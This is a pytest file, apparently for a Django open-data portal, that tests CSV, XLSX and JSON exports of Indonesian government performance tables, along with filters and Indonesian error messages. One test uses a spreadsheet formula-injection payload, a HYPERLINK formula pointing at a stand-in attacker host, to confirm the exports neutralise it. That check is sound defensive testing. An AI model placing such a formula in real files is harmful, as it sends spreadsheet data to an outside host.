"""The open data: every table as CSV (data only, its metadata at -metadata.json and in the Link header), XLSX (a
"Data" and a "Metadata" sheet) and JSON ({"metadata", "data"}), filtered like the page, parsed by the csv module and
openpyxl, with cells that cannot run as formulas, and a clear Indonesian answer to a filter it cannot read."""

import csv
import io

import pytest
from openpyxl import load_workbook

from portal.models import Instansi

from .conftest import written

pytestmark = pytest.mark.django_db
NAMES = ["dinilai", "kategori", "sebaran", "capaian", "jpt", "provinsi", "hasil"]


def csv_rows(client, url) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200, url
    assert response["Content-Type"] == "text/csv; charset=utf-8" and response.streaming
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def workbook(client, url):
    response = client.get(url)
    assert response.status_code == 200, url
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


@pytest.mark.parametrize("name", NAMES)
def test_each_table_in_three_formats_that_agree(client, name):
    rows = csv_rows(client, f"/dasbor/data/{name}.csv")
    data = client.get(f"/dasbor/data/{name}.json").json()
    assert set(data) == {"metadata", "data"}
    metadata = data["metadata"]
    for key in ("judul", "sumber", "lisensi", "dibuat", "definisi", "alamat"):
        assert metadata[key], key
    assert "CC BY 4.0" in metadata["lisensi"]
    assert rows[0] == list(metadata["definisi"]), "the CSV's header is the columns the metadata defines"
    assert len(rows) - 1 == len(data["data"])
    book = workbook(client, f"/dasbor/data/{name}.xlsx")
    assert book.sheetnames == ["Data", "Metadata"]
    sheet = [list(r) for r in book["Data"].iter_rows(values_only=True)]
    assert sheet[0] == rows[0] and len(sheet) == len(rows)
    meta = {r[0]: r[1] for r in book["Metadata"].iter_rows(values_only=True)}
    assert "CC BY 4.0" in meta["lisensi"] and meta["judul"] == metadata["judul"]


def test_the_csv_names_its_metadata_and_the_sidecar_carries_the_same_filters(client):
    response = client.get("/dasbor/data/hasil.csv?provinsi=nusa-tenggara-timur&tahun=2022")
    assert response["Link"] == (
        '</dasbor/data/hasil-metadata.json?provinsi=nusa-tenggara-timur&tahun=2022>; rel="describedby"; '
        'type="application/json"'
    )
    sidecar = client.get("/dasbor/data/hasil-metadata.json?provinsi=nusa-tenggara-timur&tahun=2022").json()
    assert set(sidecar) == {"metadata"}
    assert sidecar["metadata"]["filter"] == {"tahun": "2022", "provinsi": "nusa-tenggara-timur"}


def test_numbers_are_numbers_for_machines(client):
    data = client.get("/dasbor/data/hasil.json?provinsi=nusa-tenggara-timur").json()["data"]
    province = next(r for r in data if r["kode_wilayah"] == "53")
    assert province["nilai_verifikasi"] == 282.5 and province["indeks"] == 0.69 and province["tahun"] == 2022
    rows = csv_rows(client, "/dasbor/data/hasil.csv?provinsi=nusa-tenggara-timur")
    header = rows[0]
    kupang = next(dict(zip(header, r, strict=True)) for r in rows[1:] if r[2] == "Pemerintah Kota Kupang")
    assert (kupang["nilai_mandiri"], kupang["nilai_verifikasi"], kupang["status"]) == ("328.5", "240.5",
                                                                                      "Sedang Input")
    book = workbook(client, "/dasbor/data/capaian.xlsx?tahun=2022")
    values = list(book["Data"].iter_rows(values_only=True))
    total = next(r for r in values if r[1] == "Semua jenis")
    assert total[2] == 183 and total[3] == 598 and float(total[4]) == pytest.approx(30.6)


def test_filters_are_the_pages(client):
    everything = csv_rows(client, "/dasbor/data/hasil.csv?provinsi=nusa-tenggara-timur&tahun=2022")
    assert len(everything) - 1 == 23, "the province's government and its 22 kabupaten/kota, as on the page"
    only = csv_rows(client, "/dasbor/data/hasil.csv?provinsi=nusa-tenggara-timur&jenis=provinsi")
    assert [r[2] for r in only[1:]] == ["Pemerintah Provinsi Nusa Tenggara Timur"]
    ntt = Instansi.objects.get(code="53")
    assert len(csv_rows(client, f"/dasbor/data/hasil.csv?instansi={ntt.pk}")) == 2
    kinds = {r[1] for r in csv_rows(client, "/dasbor/data/capaian.csv?tahun=2022&jenis=lpnk")[1:]}
    assert kinds == {"LPNK"}


def test_a_cell_that_looks_like_a_formula_stays_text(client, sumedang):
    evil = Instansi.objects.create(name='=HYPERLINK("http://evil.test/?"&A1)', kind="kota", province="Jawa Barat",
                                   source="uji")
    written(evil, 2022, 300)
    rows = csv_rows(client, "/dasbor/data/hasil.csv?provinsi=jawa-barat&tahun=2022")
    assert "'=HYPERLINK(\"http://evil.test/?\"&A1)" in [r[2] for r in rows]
    book = workbook(client, "/dasbor/data/hasil.xlsx?provinsi=jawa-barat&tahun=2022")
    cells = [row[2] for row in book["Data"].iter_rows()]
    cell = next(c for c in cells if str(c.value).startswith("=HYPERLINK"))
    assert cell.data_type == "s", "stored as text, never evaluated"
    page = client.get("/dasbor/jawa-barat/").content.decode()
    assert "=HYPERLINK(&quot;http://evil.test/?&quot;&amp;A1)" in page


@pytest.mark.parametrize(
    "url, status, text",
    [
        ("/dasbor/data/hasil.csv?tahun=20x2", 400, "Tahun harus"),
        ("/dasbor/data/hasil.csv?provinsi=atlantis", 400, "Provinsi tidak dikenal"),
        ("/dasbor/data/hasil.json?instansi=abc", 400, "Nomor instansi"),
        (f"/dasbor/data/hasil.json?instansi={'9' * 30}", 400, "Nomor instansi"),
        ("/dasbor/data/hasil.json?instansi=999999999", 400, "Tidak ada instansi"),
        ("/dasbor/data/kategori.xlsx?jenis=bumn", 400, "Jenis instansi tidak dikenal"),
        ("/dasbor/data/kategori.csv?tahun=2031", 404, "Belum ada data"),
        ("/dasbor/data/rahasia.csv", 404, ""),
        ("/dasbor/data/hasil.pdf", 404, ""),
        ("/dasbor/data/hasil-metadata.csv", 404, ""),
        ("/dasbor/data/hasil.csv?warna=merah", 200, ""),
    ],
)
def test_a_filter_it_cannot_read_gets_an_indonesian_answer(client, url, status, text):
    response = client.get(url)
    assert response.status_code == status
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert text in body.decode("utf-8-sig")


def test_only_get_and_head(client):
    assert client.post("/dasbor/data/hasil.csv").status_code == 405
    assert client.post("/dasbor/").status_code in (403, 405)
